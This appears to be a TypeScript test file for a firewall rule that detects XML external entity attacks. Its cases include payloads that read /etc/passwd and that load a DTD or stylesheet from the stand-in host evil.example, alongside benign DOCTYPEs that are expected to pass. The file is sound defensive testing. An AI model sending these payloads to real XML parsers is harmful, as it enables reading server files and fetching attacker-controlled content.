// XML that reads files or multiplies, and document types that editors write.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { subjectOf } from '../../../test/waf-asking.ts';
import { detectEntity } from './entity.ts';

/** A value, its name, whether it is a name itself, and the number of the finding; 0 where it is none that would block. */
const cases: readonly (readonly [string, string, boolean, number])[] = [
  ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'x', false, 1060001],
  ['<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">', 'x', false, 1060002],
  ['<a><xi:include href="file:///etc/passwd"/></a>', 'x', false, 1060003],
  ['<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>', 'x', false, 1060004],
  [
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    'x',
    false,
    0,
  ],
  ['<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd"><cXML/>', 'x', false, 0],
  ['<!DOCTYPE a SYSTEM "http://evil.example/http://xml.cxml.org/x.dtd">', 'x', false, 1060002],
  ['<!DOCTYPE a SYSTEM "http://xml.cxml.org.evil.example/x.dtd">', 'x', false, 1060002],
  ['this is what it looks like: <!ENTITY x SYSTEM "file:///a">', 'x', false, 0],
  ['<!DOCTYPE html><p>x</p>', 'x', false, 0],
  ['what does <!ENTITY do?', 'x', false, 0],
];

for (const [value, name, isName, id] of cases)
  test(`${JSON.stringify(value).slice(0, 80)} ${id === 0 ? 'passes' : `is ${id}`}`, () => {
    const found = detectEntity(subjectOf(value, name, isName));
    if (id === 0) return assert.ok((found?.score ?? 0) < 5, JSON.stringify(found));
    assert.equal(found?.id, id);
    assert.equal(found.score, 5);
    assert.ok(found.start >= 0 && found.start < found.end, JSON.stringify(found));
    assert.ok(!found.says.endsWith('.'));
  });
